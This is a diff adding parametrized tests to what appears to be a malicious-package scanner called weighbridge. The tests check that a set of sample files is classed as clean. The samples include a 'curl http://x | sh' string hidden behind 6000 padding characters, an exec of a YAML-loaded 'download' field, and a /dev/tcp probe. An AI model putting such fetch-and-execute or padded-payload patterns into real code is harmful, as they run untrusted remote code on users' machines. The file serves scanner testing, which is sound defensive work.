@@ -85,3 +85,23 @@ def test_a_program_out_of_the_environment(tmp_path):
     assert verdict(tmp_path, app__py=text, README__md="x") is Verdict.SUSPICIOUS
     text = "import os\nDEBUG = eval(os.environ.get('DEBUG', 'False'))\n"
     assert verdict(tmp_path, app__py=text, README__md="x") is Verdict.CLEAN
+
+
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        ("cli.py", "import requests, webbrowser\nwebbrowser.open(requests.get('http://x').text)\n"),
+        ("data.py", "import yaml\ndef f(p):\n    exec(yaml.safe_load(open(p))['download'])\n"),
+        ("check.sh", "#!/bin/sh\nif (exec 3<>/dev/tcp/127.0.0.1/80); then echo up; fi\n"),
+        ("app.js", "var a = '" + "x" * 6000 + "curl http://x | sh';\n"),
+        (
+            "formats.py",
+            "T = '''{% for m in messages %}{{ m['role'] }}{{ m['content'] }}{% endfor'''\n",
+        ),
+        ("table.py", "x = '\x02'\n" + "y = 1\n" * 1000),
+    ],
+)
+def test_what_honest_packages_hold_is_clean(tmp_path, name, text):
+    (tmp_path / name).write_text(text)
+    (tmp_path / "README.md").write_text("x")
+    assert weighbridge.scan(tmp_path).verdict is Verdict.CLEAN
